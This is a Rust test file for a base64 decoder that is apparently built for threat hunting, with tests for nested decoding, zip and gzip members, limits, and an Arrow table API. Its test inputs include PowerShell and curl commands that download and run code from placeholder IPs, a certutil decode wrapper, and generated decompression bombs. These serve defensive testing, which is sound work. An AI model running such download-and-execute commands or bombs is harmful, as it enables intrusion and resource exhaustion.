//! Whole-decoder tests: outputs checked against what MSTICPy 3.0.2 produces for the
//! same inputs, the limits (including decompression bombs in a child process whose
//! peak memory is measured), and the table API.

use std::io::Write;
use std::sync::Arc;
use std::time::{Duration, Instant};

use arrow_array::cast::AsArray;
use arrow_array::types::Int64Type;
use arrow_array::{Array, ArrayRef, Int32Array, LargeStringArray, RecordBatch, StringArray};
use arrow_schema::{DataType, Field, Schema};
use base64::Engine as _;

use super::*;

fn b64(data: &[u8]) -> String {
    base64::engine::general_purpose::STANDARD.encode(data)
}

fn refs(u: &Unpacked) -> Vec<[&str; 3]> {
    u.records
        .iter()
        .map(|r| [r.reference[0].as_str(), &r.reference[1], &r.reference[2]])
        .collect()
}

#[test]
fn msticpy_walk_finds_nested_tails_at_the_same_level() {
    let input = "a YiBZeUJrUjJoc1NVZHNkV0p0Vm5saVZ6bDZaRU5DTUZwWWFEQkpSMng2U1Vkb2JHTnRWV2c9";
    let u = unpack(input, &UnpackOptions::msticpy());
    assert_eq!(
        u.decoded,
        "a <decoded type='string' name='[None]' index='1' depth='1'>b <decoded type='string' \
         name='[None]' index='1.1' depth='2'>c <decoded type='string' name='[None]' \
         index='1.2' depth='2'>the innermost text is here!</decoded></decoded></decoded>"
    );
    assert_eq!(
        refs(&u),
        [["", "1.", "1"], ["1.", "2.", "1"], ["1.", "2.", "2"]]
    );
    let last = &u.records[2];
    assert_eq!(
        last.decoded_string.as_deref(),
        Some("the innermost text is here!")
    );
    assert_eq!(last.file_name.as_deref(), Some("unknown"));
    assert_eq!(last.file_type, None);
    assert_eq!(last.encoding_type, "utf-8");
    assert_eq!(
        last.file_hashes.as_ref().unwrap().md5,
        "7b4b361ee10a72144de2d54eabf809ad"
    );
    assert_eq!(last.original_string, "dGhlIGlubmVybW9zdCB0ZXh0IGlzIGhlcmUh");
}

#[test]
fn msticpy_walk_goes_deeper_only_when_the_last_candidate_decoded() {
    // At level two the scan resumes inside the new text and tries a tail of a
    // candidate that does not decode, so (as in MSTICPy) there is no level three.
    let input = "e ZSBaU0JhVTBKclVqSm9jMU5WWkhOa1YwcDBWbTVzYVZaNmJEWmFSVTVEVFVad1dXRkVRa3BUUlRWM1drVm9UbG95UmtoV2JteGhWVlF3T1E9PQ==";
    let u = unpack(input, &UnpackOptions::msticpy());
    assert_eq!(
        u.decoded,
        "e <decoded type='string' name='[None]' index='1' depth='1'>e <decoded type='string' \
         name='[None]' index='1.1' depth='2'>e ZSBkR2hsSUdsdWJtVnliVzl6ZENCMFpYaDBJSE5wZEhNZ2FHVnlaUT09\
         </decoded></decoded>"
    );
    assert_eq!(refs(&u), [["", "1.", "1"], ["1.", "2.", "1"]]);
}

#[test]
fn default_walk_decodes_every_layer_with_msticpys_prefixes() {
    let input = "e ZSBaU0JhVTBKclVqSm9jMU5WWkhOa1YwcDBWbTVzYVZaNmJEWmFSVTVEVFVad1dXRkVRa3BUUlRWM1drVm9UbG95UmtoV2JteGhWVlF3T1E9PQ==";
    let u = unpack(input, &UnpackOptions::default());
    assert!(
        u.decoded.ends_with(
            "e <decoded type='string' name='[None]' index='1..1..1.1' depth='4'>the innermost \
         text sits here</decoded></decoded></decoded></decoded>"
        ),
        "{}",
        u.decoded
    );
    assert_eq!(
        refs(&u),
        [
            ["", "1.", "1"],
            ["1.", "2.", "1"],
            ["1..1.", "3.", "1"],
            ["1..1..1.", "4.", "1"]
        ]
    );
    let u = unpack(
        "a YiBZeUJrUjJoc1NVZHNkV0p0Vm5saVZ6bDZaRU5DTUZwWWFEQkpSMng2U1Vkb2JHTnRWV2c9",
        &UnpackOptions::default(),
    );
    assert_eq!(
        refs(&u),
        [["", "1.", "1"], ["1.", "2.", "1"], ["1..1.", "3.", "1"]]
    );
}

#[test]
fn hex_runs_stay_readable_by_default() {
    let md5 = "d41d8cd98f00b204e9800998ecf8427e";
    let sha256 = "E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855";
    let input = format!(
        "Hashes=MD5={md5},SHA256={sha256} {}",
        b64(b"and a real payload here!!")
    );
    let u = unpack(&input, &UnpackOptions::default());
    assert!(
        u.decoded.contains(md5) && u.decoded.contains(sha256),
        "{}",
        u.decoded
    );
    assert_eq!(refs(&u), [["", "1.", "1"]]);
    // MSTICPy decodes both digests into binary noise.
    let m = unpack(&input, &UnpackOptions::msticpy());
    assert!(!m.decoded.contains(md5));
    assert_eq!(
        m.records
            .iter()
            .filter(|r| r.encoding_type == "binary")
            .count(),
        2
    );
}

#[test]
fn every_occurrence_is_replaced_and_failures_still_count() {
    let q = "QUJD".repeat(8);
    let input = format!("x {q}Q and {q} and {q}");
    let u = unpack(&input, &UnpackOptions::msticpy());
    let tag = "<decoded type='string' name='[None]' index='2' depth='1'>ABCABCABCABCABCABCABCABC</decoded>";
    assert_eq!(u.decoded, format!("x {tag}Q and {tag} and {tag}"));
    assert_eq!(refs(&u), [["", "1.", "2"]]);
}

#[test]
fn zip_with_several_members_gives_multiple_markup() {
    let input = "z UEsDBBQAAAAIADEffF3C76p0EwAAABEAAAAHAAAAb25lLnR4dEvLLCouUchNzU1KLVIoSa0oAQBQSwMEFAAAAAgAMR98XSDGvtALAAAACQAAAAcAAAB0d28uYmluY/gvkJSZl1hUCQBQSwECFAMUAAAACAAxH3xdwu+qdBMAAAARAAAABwAAAAAAAAAAAAAAgAEAAAAAb25lLnR4dFBLAQIUAxQAAAAIADEffF0gxr7QCwAAAAkAAAAHAAAAAAAAAAAAAACAATgAAAB0d28uYmluUEsFBgAAAAACAAIAagAAAGgAAAAAAA==";
    let u = unpack(input, &UnpackOptions::default());
    assert_eq!(
        u.decoded,
        "z <decoded value='multiple binary' type='multiple' index='1' depth='1'><decoded \
         type='string' name='[zip] Filename: one.txt' index='1.1' depth='2'>first member \
         text</decoded><decoded value='binary'  name='[zip] Filename: two.bin' type='zip' \
         index='1.2' depth='2'>00 ff 10 62 69 6e 61 72 79</decoded></decoded>"
    );
    assert_eq!(refs(&u), [["", "1.", "1"], ["", "1.", "1"]]);
    let bin = &u.records[1];
    assert_eq!(
        (bin.file_name.as_deref(), bin.file_type.as_deref()),
        (Some("two.bin"), Some("zip"))
    );
    assert_eq!(bin.encoding_type, "binary");
    assert_eq!(bin.decoded_string, None);
    assert_eq!(bin.input_bytes.as_deref(), Some(&b"\x00\xff\x10binary"[..]));
    assert_eq!(
        bin.file_hashes.as_ref().unwrap().md5,
        "ce861ad59b55e787de2390270e11de41"
    );
}

#[test]
fn binary_with_a_known_type() {
    let u = unpack(
        "pdf: JVBERi0xLjcNCgABAgP//v38IGJpbmFyeSB0YWlsIGJ5dGVz",
        &UnpackOptions::default(),
    );
    assert_eq!(
        u.decoded,
        "pdf: <decoded value='binary'  name='[pdf]' type='pdf' index='1' depth='1'>25 50 44 \
         46 2d 31 2e 37 0d 0a 00 01 02 03 ff fe fd fc 20 62 69 6e 61 72 79 20 74 61 69 6c 20 \
         62 79 74 65 73</decoded>"
    );
    let r = &u.records[0];
    assert_eq!(r.file_type.as_deref(), Some("pdf"));
    assert_eq!(
        r.file_hashes.as_ref().unwrap().md5,
        "c2da207c119d668b9668d21c7325c296"
    );
    assert_eq!(r.md5_hex(), Some("c2da207c119d668b9668d21c7325c296"));
}

impl BinaryRecord {
    fn md5_hex(&self) -> Option<&str> {
        self.file_hashes.as_ref().map(|h| h.md5.as_str())
    }
}

#[test]
fn gzip_member_is_named_gzip_file() {
    let u = unpack(
        "gz H4sIAAAAAAACA0vOzy0oSi0uTk1RyEjNyckHALYBmUYQAAAA",
        &UnpackOptions::default(),
    );
    assert_eq!(
        u.decoded,
        "gz <decoded type='string' name='[gz] Filename: gzip_file' index='1' \
         depth='1'>compressed hello</decoded>"
    );
    assert_eq!(u.records[0].file_name.as_deref(), Some("gzip_file"));
    assert_eq!(
        u.records[0].md5_hex(),
        Some("e4302e2f593f330f16ceabc34f276924")
    );
}

#[test]
fn encoded_command_is_utf16_by_default_and_nul_ridden_utf8_in_msticpy_mode() {
    let script = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')";
    let utf16: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let input = format!("powershell -enc {}", b64(&utf16));
    let u = unpack(&input, &UnpackOptions::default());
    assert_eq!(u.records[0].encoding_type, "utf-16");
    assert_eq!(
        u.decoded,
        format!("powershell -enc <decoded type='string' name='[None]' index='1' depth='1'>{script}</decoded>")
    );
    let m = unpack(&input, &UnpackOptions::msticpy());
    assert_eq!(m.records[0].encoding_type, "utf-8");
    assert!(m.decoded.contains("I\0E\0X\0"));
}

#[test]
fn utf16_outer_with_utf8_inner_is_found_on_the_next_level() {
    let inner = b64(b"curl http://198.51.100.7/x | sh");
    let outer =
        format!("$s=[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{inner}'))");
    let utf16: Vec<u8> = outer.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let u = unpack(
        &format!("pwsh -e {}", b64(&utf16)),
        &UnpackOptions::default(),
    );
    assert!(
        u.decoded.contains("curl http://198.51.100.7/x | sh"),
        "{}",
        u.decoded
    );
    assert_eq!(refs(&u), [["", "1.", "1"], ["1.", "2.", "1"]]);
}

#[test]
fn text_without_base64_is_untouched() {
    for input in [
        "",
        "no encoded content here",
        "C:\\Windows\\System32\\cmd.exe /c dir",
    ] {
        let u = unpack(input, &UnpackOptions::default());
        assert_eq!(u.decoded, input);
        assert!(u.records.is_empty());
    }
    // A 30+ run that is not valid base64 stays as it is, without records.
    let u = unpack(
        "token abcdefghijklmnopqrstuvwxyz01234 end",
        &UnpackOptions::default(),
    );
    assert_eq!(u.decoded, "token abcdefghijklmnopqrstuvwxyz01234 end");
    assert!(u.records.is_empty());
}

#[test]
fn non_ascii_text_positions_count_characters() {
    let payload = b64("ünïcödé text that decodes fine".as_bytes());
    let input = format!(
        "日本語 ß {payload} é {}",
        b64(b"second payload, plain ascii!!")
    );
    let u = unpack(&input, &UnpackOptions::default());
    assert!(u
        .decoded
        .contains("ünïcödé text that decodes fine</decoded>"));
    assert!(u
        .decoded
        .contains("second payload, plain ascii!!</decoded>"));
    assert_eq!(u.records.len(), 2);
}

#[test]
fn pad_input_option_pads_like_unpack_items() {
    // 30 characters of base64 for 22 bytes and 2 dropped '=': decodes only padded.
    let enc = b64(b"twenty-two bytes here!");
    let trimmed = enc.trim_end_matches('=');
    assert!(unpack(trimmed, &UnpackOptions::default())
        .records
        .is_empty());
    let opts = UnpackOptions {
        pad_input: true,
        ..UnpackOptions::default()
    };
    let u = unpack(trimmed, &opts);
    assert_eq!(u.records.len(), 1);
    assert!(u.records[0]
        .input_bytes
        .as_ref()
        .unwrap()
        .starts_with(b"twenty-two bytes here"));
}

#[test]
fn results_do_not_depend_on_earlier_calls() {
    let bad = "Q".repeat(33);
    let input = format!("{bad} {}", b64(b"some decodable text here ok"));
    let first = unpack(&input, &UnpackOptions::default());
    let again = unpack(&input, &UnpackOptions::default());
    assert_eq!(first, again);
    assert_eq!(refs(&first), [["", "1.", "2"]]);
}

fn nested(levels: usize, core: &str) -> String {
    let mut s = core.to_string();
    for _ in 0..levels {
        s = format!("x {}", b64(s.as_bytes()));
    }
    s
}

#[test]
fn depth_limit_yields_an_error_record_only_when_base64_is_left() {
    let opts = UnpackOptions {
        max_recursion: 3,
        ..UnpackOptions::default()
    };
    // Four levels fit exactly (the first plus three more).
    let u = unpack(&nested(4, "core text long enough to be a candidate"), &opts);
    assert!(u.records.iter().all(|r| r.encoding_type != ERROR_ENCODING));
    assert!(u
        .decoded
        .contains("core text long enough to be a candidate"));

    let u = unpack(&nested(6, "core text long enough to be a candidate"), &opts);
    let errors: Vec<_> = u
        .records
        .iter()
        .filter(|r| r.encoding_type == ERROR_ENCODING)
        .collect();
    assert_eq!(errors.len(), 1, "{:?}", u.records);
    let msg = errors[0].decoded_string.as_deref().unwrap();
    assert!(
        msg.contains("deeper than 4 levels") && msg.contains("max_recursion"),
        "{msg}"
    );
    assert!(!u
        .decoded
        .contains("core text long enough to be a candidate"));
}

#[test]
fn fragment_limit_reports_candidates_left_encoded() {
    let opts = UnpackOptions {
        max_fragments: 3,
        ..UnpackOptions::default()
    };
    // Four candidates that do not decode use up the level; nothing decoded, so there
    // is no next level and the good one after them is left.
    let good = b64(b"payload that is never reached");
    let bad: Vec<String> = ["Q", "R", "S", "T"].iter().map(|c| c.repeat(33)).collect();
    let input = format!("{} {good}", bad.join(" "));
    for opts in [
        opts.clone(),
        UnpackOptions {
            msticpy_walk: true,
            ..opts
        },
    ] {
        let u = unpack(&input, &opts);
        assert_eq!(u.records.len(), 1, "{:?}", u.records);
        let err = &u.records[0];
        assert_eq!(err.encoding_type, ERROR_ENCODING);
        assert_eq!(err.original_string, good);
        assert_eq!(err.reference, ["".to_string(), "1.".into(), "4".into()]);
        assert!(err
            .decoded_string
            .as_deref()
            .unwrap()
            .contains("max_fragments"));
        assert_eq!(u.decoded, input);
    }
    // With a decodable candidate among the first ones, the next level carries on.
    let input = format!(
        "{} {} {good}",
        b64(b"an early payload decodes fine"),
        bad.join(" ")
    );
    let u = unpack(
        &input,
        &UnpackOptions {
            max_fragments: 3,
            ..UnpackOptions::default()
        },
    );
    assert!(u.records.iter().all(|r| r.encoding_type != ERROR_ENCODING));
    assert!(u.decoded.contains("payload that is never reached"));
}

#[test]
fn byte_budget_stops_the_row_with_an_error() {
    let opts = UnpackOptions {
        max_total_bytes: 100,
        ..UnpackOptions::default()
    };
    let small = b64(&[b'a'; 60]);
    let big = b64(&[b'b'; 90]);
    let u = unpack(&format!("{small} {big} {small}x"), &opts);
    assert_eq!(u.records.len(), 2);
    assert_eq!(u.records[0].encoding_type, "utf-8");
    let err = &u.records[1];
    assert_eq!(err.encoding_type, ERROR_ENCODING);
    assert!(err
        .decoded_string
        .as_deref()
        .unwrap()
        .contains("max_total_bytes"));
    assert!(u
        .decoded
        .contains("<decoded value='error' name='[None]' type='None' index='2' depth='1'>"));
}

#[test]
fn output_length_limit_stops_the_row() {
    let opts = UnpackOptions {
        max_output_len: 200,
        ..UnpackOptions::default()
    };
    let bin = b64(&[0xffu8; 60]);
    let u = unpack(&format!("a {bin}"), &opts);
    assert_eq!(u.records.len(), 1);
    assert_eq!(u.records[0].encoding_type, ERROR_ENCODING);
    assert!(u.records[0]
        .decoded_string
        .as_deref()
        .unwrap()
        .contains("max_output_len"));
    assert_eq!(u.decoded, format!("a {bin}"));
}

#[test]
fn member_limits_give_error_items() {
    let files: Vec<(String, String)> = (0..5)
        .map(|i| (format!("m{i}.txt"), format!("member {i}")))
        .collect();
    let opts = UnpackOptions {
        max_archive_members: 2,
        ..UnpackOptions::default()
    };
    let u = unpack(&b64(&corpus::zip(&files)), &opts);
    assert_eq!(u.records.len(), 3);
    assert_eq!(u.records[2].encoding_type, ERROR_ENCODING);
    assert!(u.records[2]
        .decoded_string
        .as_deref()
        .unwrap()
        .contains("3 more members"));
    assert!(u.decoded.contains("name='[zip] 3 more members'"));
}

#[test]
fn corrupt_archive_falls_back_to_binary() {
    let mut gz = corpus::gzip(b"some text that will be corrupted in the middle");
    let mid = gz.len() / 2;
    gz[mid] ^= 0xff;
    gz[mid + 1] ^= 0xff;
    let u = unpack(&b64(&gz), &UnpackOptions::default());
    assert_eq!(u.records.len(), 1);
    let r = &u.records[0];
    assert_eq!(
        (r.file_type.as_deref(), r.file_name.as_deref()),
        (Some("gz"), Some("unknown"))
    );
    assert_eq!(r.encoding_type, "binary");
    assert!(u.decoded.contains("name='[gz]' type='gz'"));
}

// ---- decompression bombs ------------------------------------------------------

const BOMB_CHILD_ENV: &str = "HUNTBOOK_UNPACK_BOMB_CHILD";
const GIB: usize = 1 << 30;

fn zeros_into(mut w: impl Write, total: usize) {
    let chunk = vec![0u8; 1 << 20];
    let mut left = total;
    while left > 0 {
        let n = left.min(chunk.len());
        w.write_all(&chunk[..n]).unwrap();
        left -= n;
    }
}

fn gzip_bomb() -> Vec<u8> {
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    zeros_into(&mut enc, GIB);
    enc.finish().unwrap()
}

fn zip_bomb() -> Vec<u8> {
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated)
        // Under 4 GiB, so no zip64 header: the version-20 header is what the type
        // detection recognises as a zip.
        .compression_level(Some(1));
    w.start_file("readme.txt", opts).unwrap();
    w.write_all(b"innocent looking member").unwrap();
    w.start_file("zeros.bin", opts).unwrap();
    zeros_into(&mut w, GIB);
    w.finish().unwrap().into_inner()
}

fn peak_rss_kib() -> Option<u64> {
    let status = std::fs::read_to_string("/proc/self/status").ok()?;
    let line = status.lines().find(|l| l.starts_with("VmHWM:"))?;
    line.split_whitespace().nth(1)?.parse().ok()
}

/// Runs in a child process (see `bombs_finish_fast_in_bounded_memory`), so its peak
/// memory is its own and not that of other tests in the same binary.
#[test]
#[ignore = "run by bombs_finish_fast_in_bounded_memory in a child process"]
fn bomb_child() {
    let Ok(which) = std::env::var(BOMB_CHILD_ENV) else {
        return;
    };
    let bomb = if which == "gzip" {
        gzip_bomb()
    } else {
        zip_bomb()
    };
    let text = format!("cmd /c echo {} | certutil -decode", b64(&bomb));
    drop(bomb);
    let started = Instant::now();
    let u = unpack(&text, &UnpackOptions::default());
    let elapsed = started.elapsed();
    let errors: Vec<&str> = u
        .records
        .iter()
        .filter(|r| r.encoding_type == ERROR_ENCODING)
        .filter_map(|r| r.decoded_string.as_deref())
        .collect();
    assert_eq!(
        errors.len(),
        1,
        "{:?}",
        u.records
            .iter()
            .map(|r| &r.encoding_type)
            .collect::<Vec<_>>()
    );
    assert!(
        errors[0].contains("zeros.bin") || which == "gzip",
        "{}",
        errors[0]
    );
    assert!(
        errors[0].contains("decoding budget") || errors[0].contains("ratio"),
        "{}",
        errors[0]
    );
    if which == "zip" {
        assert!(u.decoded.contains("innocent looking member"));
    }
    println!(
        "BOMB_RESULT decode_ms={} peak_kib={}",
        elapsed.as_millis(),
        peak_rss_kib().unwrap_or(0)
    );
}

#[test]
fn bombs_finish_fast_in_bounded_memory() {
    let exe = std::env::current_exe().unwrap();
    for which in ["gzip", "zip"] {
        let started = Instant::now();
        let out = std::process::Command::new(&exe)
            .args([
                "--ignored",
                "--exact",
                "unpack::tests::bomb_child",
                "--nocapture",
                "--test-threads=1",
            ])
            .env(BOMB_CHILD_ENV, which)
            .output()
            .unwrap();
        let stdout = String::from_utf8_lossy(&out.stdout);
        assert!(
            out.status.success(),
            "{which} bomb child failed:\n{stdout}\n{}",
            String::from_utf8_lossy(&out.stderr)
        );
        let line = stdout
            .lines()
            .find_map(|l| l.split_once("BOMB_RESULT").map(|(_, rest)| rest))
            .unwrap_or_else(|| panic!("no result from the {which} bomb child:\n{stdout}"));
        let field = |name: &str| -> u64 {
            line.split_whitespace()
                .find_map(|kv| kv.strip_prefix(name))
                .and_then(|v| v.parse().ok())
                .unwrap()
        };
        // Building the bomb (compressing 1 GiB) dominates the child's run time; the
        // decoding itself is bounded by the 16 MiB default budget.
        assert!(field("decode_ms=") < 5_000, "{which}: {line}");
        assert!(started.elapsed() < Duration::from_secs(120), "{which}");
        if cfg!(target_os = "linux") {
            let peak_mib = field("peak_kib=") / 1024;
            assert!(
                peak_mib > 0 && peak_mib < 256,
                "{which} bomb peak memory {peak_mib} MiB"
            );
        }
    }
}

// ---- table API -----------------------------------------------------------------

fn batch(name: &str, array: ArrayRef) -> RecordBatch {
    let schema = Schema::new(vec![
        Field::new("id", DataType::Int32, false),
        Field::new(name, array.data_type().clone(), true),
    ]);
    let ids = Int32Array::from_iter_values(0..array.len() as i32);
    RecordBatch::try_new(Arc::new(schema), vec![Arc::new(ids), array]).unwrap()
}

#[test]
fn table_has_msticpys_fifteen_columns_in_order() {
    let rows = StringArray::from(vec![
        Some(format!("a {}", b64(b"first row payload decoded text"))),
        Some("nothing to see".to_string()),
        None,
        Some(format!("b {}", b64(b"third row has this payload here"))),
    ]);
    let out = unpack_base64(
        &batch("CommandLine", Arc::new(rows)),
        "CommandLine",
        &UnpackOptions::default(),
    )
    .unwrap();
    let names: Vec<String> = out
        .schema()
        .fields()
        .iter()
        .map(|f| f.name().clone())
        .collect();
    assert_eq!(
        names,
        [
            "reference",
            "original_string",
            "file_name",
            "file_type",
            "input_bytes",
            "decoded_string",
            "encoding_type",
            "file_hashes",
            "md5",
            "sha1",
            "sha256",
            "printable_bytes",
            "src_index",
            "CommandLine",
            "full_decoded_string"
        ]
    );
    assert_eq!(out.num_rows(), 2);
    let src = out
        .column_by_name("src_index")
        .unwrap()
        .as_primitive::<Int64Type>();
    assert_eq!(src.values().to_vec(), [0, 3]);
    let decoded = out
        .column_by_name("decoded_string")
        .unwrap()
        .as_string::<i64>();
    assert_eq!(decoded.value(1), "third row has this payload here");
    let input = out
        .column_by_name("CommandLine")
        .unwrap()
        .as_string::<i64>();
    assert!(input.value(1).starts_with("b "));
    let full = out
        .column_by_name("full_decoded_string")
        .unwrap()
        .as_string::<i64>();
    assert!(full.value(0).starts_with("a <decoded type='string'"));
    let reference = out.column_by_name("reference").unwrap().as_list::<i32>();
    let first = reference.value(0);
    let parts = first.as_string::<i32>();
    assert_eq!(
        (parts.value(0), parts.value(1), parts.value(2)),
        ("", "1.", "1")
    );
    let hashes = out.column_by_name("file_hashes").unwrap().as_struct();
    let md5 = hashes.column_by_name("md5").unwrap().as_string::<i32>();
    let md5_col = out.column_by_name("md5").unwrap().as_string::<i32>();
    assert_eq!(md5.value(0), md5_col.value(0));
    assert_eq!(md5.value(0).len(), 32);
    let bytes = out
        .column_by_name("input_bytes")
        .unwrap()
        .as_binary::<i64>();
    assert_eq!(bytes.value(0), b"first row payload decoded text");
    let printable = out
        .column_by_name("printable_bytes")
        .unwrap()
        .as_string::<i64>();
    assert!(printable.value(0).starts_with("66 69 72 73 74"));
}

#[test]
fn table_accepts_large_utf8_and_reports_errors_in_rows() {
    let opts = UnpackOptions {
        max_total_bytes: 10,
        ..UnpackOptions::default()
    };
    let rows = LargeStringArray::from(vec![format!(
        "x {}",
        b64(b"more than ten bytes of payload")
    )]);
    let out = unpack_base64(&batch("text", Arc::new(rows)), "text", &opts).unwrap();
    assert_eq!(out.num_rows(), 1);
    let enc = out
        .column_by_name("encoding_type")
        .unwrap()
        .as_string::<i32>();
    assert_eq!(enc.value(0), "error");
    assert!(out.column_by_name("file_hashes").unwrap().is_null(0));
    assert!(out.column_by_name("input_bytes").unwrap().is_null(0));
}

/// Rows are decoded a chunk at a time: records keep their rows' positions across chunks.
#[test]
fn rows_of_every_chunk_keep_their_positions() {
    let n = 3 * table::CHUNK + 5;
    let text = |row: usize| format!("row number {row} of a table decoded a chunk at a time");
    let payload = |row: usize| format!("echo {}", b64(text(row).as_bytes()));
    let rows: StringArray = (0..n)
        .map(|row| {
            Some(if row % 7 == 3 {
                payload(row)
            } else {
                format!("plain {row}")
            })
        })
        .collect();
    let out = unpack_base64(&batch("c", Arc::new(rows)), "c", &UnpackOptions::default()).unwrap();
    let src = out
        .column_by_name("src_index")
        .unwrap()
        .as_primitive::<Int64Type>();
    let decoded = out
        .column_by_name("decoded_string")
        .unwrap()
        .as_string::<i64>();
    let input = out.column_by_name("c").unwrap().as_string::<i64>();
    let expected: Vec<usize> = (0..n).filter(|row| row % 7 == 3).collect();
    assert_eq!(out.num_rows(), expected.len());
    for (k, &row) in expected.iter().enumerate() {
        assert_eq!(src.value(k), row as i64);
        assert_eq!(decoded.value(k), text(row));
        assert_eq!(input.value(k), payload(row));
    }
}

#[test]
fn empty_result_keeps_the_schema() {
    let rows = StringArray::from(vec![Some("plain"), None]);
    let out = unpack_base64(&batch("c", Arc::new(rows)), "c", &UnpackOptions::default()).unwrap();
    assert_eq!(out.num_rows(), 0);
    assert_eq!(out.num_columns(), 15);
    assert_eq!(out.schema().as_ref(), &output_schema("c"));
}

#[test]
fn table_errors_name_the_column() {
    let rows = StringArray::from(vec!["x"]);
    let b = batch("CommandLine", Arc::new(rows));
    let err = unpack_base64(&b, "Cmd", &UnpackOptions::default()).unwrap_err();
    let msg = err.to_string();
    assert!(
        msg.contains("\"Cmd\"") && msg.contains("\"CommandLine\""),
        "{msg}"
    );
    let err = unpack_base64(&b, "id", &UnpackOptions::default()).unwrap_err();
    assert!(matches!(err, UnpackError::NotText { .. }), "{err}");
    assert!(err.to_string().contains("Int32"));
}

#[test]
fn input_column_named_like_an_output_column_takes_its_place() {
    let rows = StringArray::from(vec![format!(
        "x {}",
        b64(b"payload text for the collision")
    )]);
    let out = unpack_base64(
        &batch("original_string", Arc::new(rows)),
        "original_string",
        &UnpackOptions::default(),
    )
    .unwrap();
    assert_eq!(out.num_columns(), 14);
    let col = out
        .column_by_name("original_string")
        .unwrap()
        .as_string::<i64>();
    assert!(col.value(0).starts_with("x "));
}

#[test]
fn table_rows_match_single_string_results() {
    let rows: Vec<String> = corpus::Generator::new(21).table_rows(200);
    let array = StringArray::from(rows.clone());
    let opts = UnpackOptions::default();
    let out = unpack_base64(&batch("c", Arc::new(array)), "c", &opts).unwrap();
    let expected: usize = rows.iter().map(|r| unpack(r, &opts).records.len()).sum();
    assert_eq!(out.num_rows(), expected);
    let src = out
        .column_by_name("src_index")
        .unwrap()
        .as_primitive::<Int64Type>();
    assert!(
        src.values().windows(2).all(|w| w[0] <= w[1]),
        "rows stay in input order"
    );
}
